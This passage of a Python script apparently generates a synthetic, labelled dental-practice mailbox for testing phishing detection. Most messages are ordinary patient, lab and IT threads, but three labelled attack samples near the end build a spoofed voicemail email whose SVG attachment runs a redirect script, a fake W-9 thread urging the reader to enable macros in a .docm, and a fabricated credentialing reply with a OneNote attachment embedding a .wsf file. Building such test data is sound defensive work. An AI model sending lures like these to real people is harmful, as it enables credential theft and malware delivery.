          scen=("G29", "mailing-list reply whose From is rewritten 'via CODS-PM' (DMARC mitigation) with Reply-To the poster"))
list_post(renee, "gmail", at(2025, 1, 29, 12, 20), "Re: " + s24, [j_post, d24], "We're on BuckeyeVoice too - there's a weekly schedule in the portal under Call Routing, "
          "you set it once for the year.", label=G, scen=("P-T24-1", "plain list reply from Renee Patterson in T24"))

# ================================================================ T25 patient Moreau (iPhone): insurance card photos at 23:12; G30
t25 = Thread("T25", jessica, "New patient forms - insurance information")
t25.add(me, "Hi Jessica,\n\nThanks for scheduling your new patient visit on 11/19 at our Grove City office. So we can check your benefits ahead of time, could you reply "
        "with a photo of the front and back of your dental insurance card?", at(2024, 11, 12, 15, 5))
t25.add(jessica, "Hi! Sorry so late, here they are. It's through my husband's job, it says Great Lakes on it.", at(2024, 11, 12, 23, 12), GH, inline_imgs=True,
        atts=[("IMG_4471.jpeg", jpeg(), "image/jpeg"), ("IMG_4472.jpeg", jpeg(), "image/jpeg")],
        scen=("G30", "new patient sends two insurance-card photos from her iPhone at 23:12 (requested)"))
t25.add(me, "Got them, thank you! You're all set - your cleaning and exam are covered at 100%.", at(2024, 11, 13, 8, 20))
t25.add(jessica, "Yay thank you!", at(2024, 11, 13, 8, 41), G)

# ================================================================ T26 patient Raman (Gmail): reply to Keystone's statement mail (O2), payment receipt (G34)
t26 = Thread("T26", priya, "Your statement from Scioto Family Dental Group is ready")
st_mid = f"<stmt.{ruuid()}@statements.keystonerevenue.example>"
t26.refs = [st_mid]
srec = dict(t=at(2025, 1, 8, 7, 2), name="Scioto Family Dental Group", email="statements@keystonerevenue.example", to=[], cc=[], subj="Your statement from Scioto Family Dental Group is ready",
            plain="Your statement from Scioto Family Dental Group is ready.\n\nAmount due: $212.00\nDue date: 01/28/2025\n\nView and pay online: https://pay.keystonerevenue.example/s/"
                  + alnum(12) + "\n\nQuestions? Call 614-555-0127.")
t26.add(priya, "Hi, I got this statement for $212 but I thought my insurance covered my son's sealants at 100%? I'm copying the office.", at(2025, 1, 9, 19, 40), GO,
        to=[("Scioto Family Dental Group", "statements@keystonerevenue.example")], cc=[(me.name, me.email)], quote_rec=srec,
        scen=("O2", "patient replies to the billing company's statement e-mail (sent only to her, not in the mailbox) and copies Denise"))
t26.add(me, "Hi Priya,\n\nI looked into it - the sealants were covered in full. The $212 is for Arjun's filling on #30 on 12/3, which Great Lakes pays at 80% after the "
        "deductible. You can pay through the link in the statement or call us and we'll take it over the phone.", at(2025, 1, 10, 8, 44), to=[(priya.name, priya.email)])
t26.add(priya, "Thanks, that makes sense. I paid through the portal just now - receipt attached in case you need it.", at(2025, 1, 10, 12, 31), GH,
        atts=[("Receipt_KRP_Payment_0110.pdf", pdf(["Keystone Revenue Partners - Payment Receipt", "Practice: Scioto Family Dental Group", "Amount: $212.00 (Visa ending 4410)",
                                                    "Confirmation: KRP-" + HX(10)], producer="Chromium PDF", when="20250110122800"), "application/pdf")],
        scen=("G34", "patient attaches a payment receipt PDF after paying through the card portal"))

# ================================================================ T27 owner forwards carrier letter from Outlook for iOS (FW:); G31
fw_plain = ("Denise - can you and Marcus look at this? Looks like they cut D1110 and D0120 again.\n\nGet Outlook for iOS\n________________________________\n"
            "From: Great Lakes Dental Benefits Provider Communications <providercommunications@greatlakesdental.example>\nSent: Monday, January 6, 2025 7:15:02 AM\n"
            "To: Amir Haddad <ahaddad@sciotofamilydental.example>\nSubject: 2025 fee schedule update\n\nDear Provider,\n\nThe attached letter describes changes to the "
            "Great Lakes Dental Benefits PPO fee schedule effective March 1, 2025. Participating providers may review the full schedule in the Provider Portal.\n\n"
            "Provider Relations\nGreat Lakes Dental Benefits")
fw_mid = emit(haddad, "olkios", at(2025, 1, 6, 21, 3), [(me.name, me.email)], None, "FW: 2025 fee schedule update", [], fw_plain,
              atts=[("GLDB_2025_Fee_Schedule_Letter.pdf", pdf(["Great Lakes Dental Benefits", "Provider Fee Schedule Update - effective March 1, 2025",
                                                               "D0120 periodic evaluation: $41.00 (was $43.00)", "D1110 prophylaxis - adult: $78.00 (was $81.00)"],
                                                              producer="Adobe PDF Library 23.8", when="20250103120000"), "application/pdf")],
              label=GH, scen=("G31", "practice owner forwards (FW:) a carrier letter PDF from Outlook for iOS in the evening"))
emit(me, "olk", at(2025, 1, 7, 8, 15), [(haddad.name, haddad.email)], None, "RE: FW: 2025 fee schedule update", [fw_mid],
     "Will do - I'll put it on the agenda for our call with Keystone on the 16th." + SIG_ME + "\n\nFrom: Dr. Amir Haddad <ahaddad@sciotofamilydental.example>\n"
     "Sent: Monday, January 6, 2025 9:03 PM\nTo: Denise Kowalski <dkowalski@sciotofamilydental.example>\nSubject: FW: 2025 fee schedule update\n\n" + fw_plain)

# ================================================================ T28 patient Delgado (Gmail, Spanish)
t28 = Thread("T28", rosa, "Cita de limpieza para Sofía")
t28.add(rosa, "Hola, quisiera hacer una cita de limpieza para mi hija Sofía (8 años) en la oficina de Grove City. ¿Tienen algo después de las 3:30 por la escuela? Gracias.",
        at(2024, 8, 26, 19, 12))
t28.add(me, "Hola Rosa,\n\n¡Claro que sí! Tenemos el jueves 5 de septiembre a las 3:45 con Kayla en Grove City. ¿Le funciona?\n\n(Gracias a Brittany por la traducción.)",
        at(2024, 8, 27, 9, 5))
t28.add(rosa, "Sí, perfecto. ¡Gracias!", at(2024, 8, 27, 12, 22), G)
t28.add(rosa, "Hola Denise, ya toca la limpieza de seis meses otra vez. ¿Hay algo en marzo después de las 3:30?", at(2025, 2, 27, 18, 50), G)
t28.add(me, "Hola Rosa, tenemos el martes 11 de marzo a las 3:45 con Kayla. ¡Nos vemos!", at(2025, 2, 28, 8, 40))

# ================================================================ T29 internal: Grove City spore test (Kayla, Outlook on the web)
t29 = Thread("T29", kayla, "Grove City autoclave - failed spore test again")
t29.add(kayla, "Hi Denise,\n\nThe spore test from last Tuesday came back positive again from the mail-in lab (second week in a row). We've switched to the backup "
        "cassette sterilizer for everything and we're holding the instruments from that load. Can you call the service company?", at(2025, 2, 5, 12, 18))
t29.add(me, "Thanks Kayla. I've called them and I'm also getting a quote for a replacement from Midwest. Please log the positive results in the sterilization binder "
        "and keep the backup unit running until we hear back.", at(2025, 2, 5, 12, 52))
t29.add(kayla, "Will do. The service tech came by - he says the chamber is pitted and it's not worth repairing.", at(2025, 2, 7, 15, 31), G)
t29.add(me, "OK - the new one is ordered, Tom is bringing a loaner Thursday.", at(2025, 2, 11, 9, 20))
t29.add(kayla, "Perfect, thank you!!", at(2025, 2, 11, 9, 47), G)

# ================================================================ T30 lab: holiday delivery schedule (Greg)
t30 = Thread("T30", greg, "Holiday delivery schedule")
t30.add(greg, "Hi Denise,\n\nOur holiday schedule: the lab is closed 12/24-12/26 and 12/31-1/1. Last pickup before Christmas is Friday 12/20 at 3pm; anything picked up "
        "after that will be back the week of 1/6. Drivers run normal routes the rest of the time.", at(2024, 12, 2, 10, 40))
t30.add(me, "Thanks Greg. Dr. Kim has a crown seat on 12/30 at Dublin (case 24-5120) - will that make it?", at(2024, 12, 2, 11, 15))
t30.add(greg, "Yes - 24-5120 is already in the mill, it'll be on the 12/19 delivery.", at(2024, 12, 2, 13, 2), G)
t30.add(me, "Great, thank you!", at(2024, 12, 2, 13, 20))

# ================================================================ T31 [Ticket T20250318.0009] Clintonville new hire (PSA) after the spoof
TK3 = "T20250318.0009"
t31 = Thread("T31", jake, "New hire - Clintonville hygienist starting 3/31")
t31.add(me, "Hi,\n\nWe have a new hygienist, Megan Ortiz, starting at Clintonville on 3/31. She needs a Microsoft 365 account (Business Standard like the others), "
        "OpenChair access as 'Hygienist' and a FIDO key like Kayla's. She'll use the operatory 2 PC.\n\nThanks", at(2025, 3, 18, 8, 31), to=OIT_TO)
psa_notice(at(2025, 3, 18, 8, 32), TK3, f"Ticket #{TK3} created: New hire - Clintonville hygienist starting 3/31",
           f"Hello Denise,\n\nThank you for contacting Olentangy IT Solutions. Your request has been logged as ticket #{TK3} and assigned to the service desk. A "
           "technician will respond within your contract's response time (8 business hours for P4).", "New", pr="P4 - Planned", refs=list(t31.refs))
t31.add(jake, "Hi Denise,\n\nAccount mortiz@sciotofamilydental.example is created with the Business Standard licence and added to the Clintonville groups. Her "
        "temporary password will be in a sealed envelope at the Clintonville front desk on 3/31, and Nora will register her security key that morning. OpenChair access "
        "has to be granted by your OpenChair admin account - that's you.\n\nJake Ferris\nOlentangy IT Solutions" + PSA_FOOT.format(tk=TK3, st="Waiting Customer", pr="P4 - Planned"),
        at(2025, 3, 19, 14, 12), G, sig=False, quote=False, subj=f"Ticket #{TK3} - New hire - Clintonville hygienist starting 3/31", extra=psa_extra(TK3))
t31.add(me, "Thanks Jake - I'll add her in OpenChair.", at(2025, 3, 19, 14, 40), to=OIT_TO)
psa_notice(at(2025, 4, 1, 11, 5), TK3, f"Ticket #{TK3} completed: New hire - Clintonville hygienist starting 3/31",
           f"Hello Denise,\n\nTicket #{TK3} has been completed.\n\nResolution: account created, security key registered on site 3/31, sign-in verified.\n\n"
           f"How did we do? Rate this ticket (one click): https://portal.olentangyit.example/survey?t={TK3}&k={alnum(24)}", "Complete", pr="P4 - Planned")

# ================================================================ G32 a real voicemail notification (labelled), plus stand-alone attacks A5, A7, A9
voicemail(at(2025, 4, 21, 10, 4), "M", "6145550148", "BUCKEYE DENTAL", 38, "Hi Denise, it's Lisa at Buckeye Dental Arts returning your call about the April statement, "
          "I'm here until four. Thanks.", label=GH, scen=("G32", "real BuckeyeVoice voicemail-to-email notification with the .wav recording"))

vm_spoof = Pt("BuckeyeVoice Voicemail", "voicemail-noreply@ridgelinehvac.example", "phpmailer", "cp-ridgeline", tz=datetime.timezone(TD(hours=5, minutes=30)))
svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="420" height="120" viewBox="0 0 420 120">\n'
       '<rect width="420" height="120" rx="8" fill="#b5121b"/><circle cx="60" cy="60" r="30" fill="#fff"/><polygon points="52,45 52,75 76,60" fill="#b5121b"/>\n'
       '<text x="110" y="55" font-family="Arial" font-size="18" fill="#fff">Voice message (1:12)</text>\n'
       '<text x="110" y="82" font-family="Arial" font-size="13" fill="#fff">Click to play - (614) 555-0163</text>\n'
       '<script type="text/javascript"><![CDATA[\n  var u = "https://bv-voicemail-portal.example/listen/" + "' + hx(16) + '" + "?m=" + btoa("dkowalski@sciotofamilydental.example");\n'
       '  /* inert probe sample: redirect only */ window.location.href = u;\n]]></script>\n</svg>\n')
vm_html = simple_html(["You have a new voicemail.", "From: <b>WIRELESS CALLER (614) 555-0163</b><br>To: Clintonville Main<br>Duration: 1:12",
                       "Your voice message is attached. Open the attachment to play it in your browser."], "BuckeyeVoice", "#b5121b", "BuckeyeVoice Hosted PBX")
emit(vm_spoof, "phpmailer", at(2025, 4, 22, 9, 14), [(me.name, me.email)], None, "Voicemail from (614) 555-0163 to Clintonville Main - 1:12", [],
     "You have a new voicemail.\n\nFrom: WIRELESS CALLER (614) 555-0163\nTo: Clintonville Main\nDuration: 1:12\n\nYour voice message is attached. Open the attachment to play "
     "it in your browser.", html=vm_html, atts=[("VM_20250422_0912_6145550163.svg", svg.encode(), "image/svg+xml")], label=HJ("display-name-spoof"),
     scen=("A5", "'BuckeyeVoice Voicemail' display name from a compromised HVAC contractor's cPanel (PHPMailer): SVG 'voicemail' with a redirect script"))

vc = Pt("Vendor Compliance - Great Lakes Dental Benefits", "vendorcompliance@gldb-vendorservices.example", "olsmtp", "vps-gldbv", tz=WAT)
fake_parent = f"<CH0PR04MB8051{HX(21)}@CH0PR04MB8051.namprd04.prod.outlook.com>"
w9 = docm("W-9 TIN Verification", ["Form W-9 (Rev. March 2024) - Request for Taxpayer Identification Number and Certification",
                                   "This document is protected. Click Enable Editing and then Enable Content to display the form fields.",
                                   "Payee: Scioto Family Dental Group", "Reference: CP2100 / TIN mismatch 2024"])
emit(vc, "olsmtp", at(2025, 1, 22, 10, 37), [(me.name, me.email)], None, "RE: W-9 / TIN verification - Scioto Family Dental Group", [fake_parent],
     "Hello Denise,\n\nThank you for your quick response. As discussed, our records show a TIN/name mismatch (IRS CP2100 notice) for Scioto Family Dental Group for tax year "
     "2024. To avoid 24% backup withholding on your claim payments starting with the February remittance, please complete the attached updated W-9 request form and "
     "return it by Friday.\n\nThe form is protected. After opening, click \"Enable Editing\" and \"Enable Content\" to view the fields.\n\nRegards,\nVendor Compliance Team\n"
     "Great Lakes Dental Benefits\n\n-----Original Message-----\nFrom: Denise Kowalski <dkowalski@sciotofamilydental.example>\nSent: Tuesday, January 21, 2025 3:48 PM\n"
     "To: Vendor Compliance <vendorcompliance@gldb-vendorservices.example>\nSubject: RE: W-9 / TIN verification - Scioto Family Dental Group\n\nHi,\nYes, please send it over "
     "and I will have it completed.\nDenise", atts=[("W9_TIN_Verification_SFDG_2025.docm", w9, "application/vnd.ms-word.document.macroEnabled.12")],
     date_tz=WAT, label=HJ("fake-thread"), orig_ip="91.215.85.147",
     scen=("A7", "stranger 'Vendor Compliance' replies to a W-9/TIN thread that never existed (fabricated quote of Denise, parent not in mailbox): macro .docm"))

pdv = Pt("Provider Credentialing Services", "credentialing@providerdata-verify.example", "rcold", "vps-pdv", tz=UTC)
emit(pdv, "rcold", at(2025, 3, 19, 6, 5), [(me.name, me.email)], None, "RE: Re-credentialing - Scioto Family Dental Group (Action Required)",
     [f"<{hx(32)}@providerdata-verify.example>"],
     "Dear Denise Kowalski,\n\nAs per your request below, please find attached the re-credentialing form for you practitioners. All dental providers must complete the "
     "re-attestation before 03/31/2025 otherwise the claims payments will be hold until the file is complete.\n\nKindly open the attached document and click on \"View "
     "Form\" to complete the re-attestation for each provider. The form must be completed from a desktop computer.\n\nBest Regards,\nProvider Credentialing Services\n"
     "Network Management Department\n\nOn 2025-03-17 10:22, Denise Kowalski wrote:\n> Hello,\n> We received the notice for re-credentialing of Dr. Haddad and Dr. Kim. "
     "Please send\n> the form we need to complete.\n>\n> Thank you\n> Denise", no_html=True,
     atts=[("Recredentialing_Form_SFDG.one", onenote("View Form.wsf"), "application/octet-stream")], label=HJ("fake-thread"), orig_ip="185.174.136.29",
     scen=("A9", "stranger 'Provider Credentialing Services' with a fabricated quote of Denise, stilted English, OneNote attachment"))


# ================================================================ write, in arrival order
pending.sort(key=lambda x: (x[0], x[1]))
labels = ["mailbox\tmessage_id\tlabel\tkind"]
scen = ["file\tscenario\tdescription"]
seen = set()
for i, (t, _, folder, raw, lab, sc) in enumerate(pending, 1):
    path = f"mailboxes/{MB}/{folder}/{i}.eml"
    with open(f"{root}/{path}", "w", encoding="utf-8", newline="") as f: f.write(raw)
    if lab:
        if lab[0] in seen: raise SystemExit(f"duplicate Message-ID {lab[0]}")
        seen.add(lab[0])
        labels.append(f"{MB}\t{lab[0]}\t{lab[1][0]}\t{lab[1][1]}")
        if not sc: raise SystemExit(f"labelled message without scenario: {lab}")
        scen.append(f"{path}\t{sc[0]}\t{sc[1]}")
open(f"{root}/labels.tsv", "w", encoding="utf-8").write("\n".join(labels) + "\n")
open(f"{root}/scenarios.tsv", "w", encoding="utf-8").write("\n".join(scen) + "\n")
print(f"{len(pending)} messages, {len(labels) - 1} labelled ({sum(1 for l in labels[1:] if l.split(chr(9))[2] == 'hijack')} hijack) -> {root}")
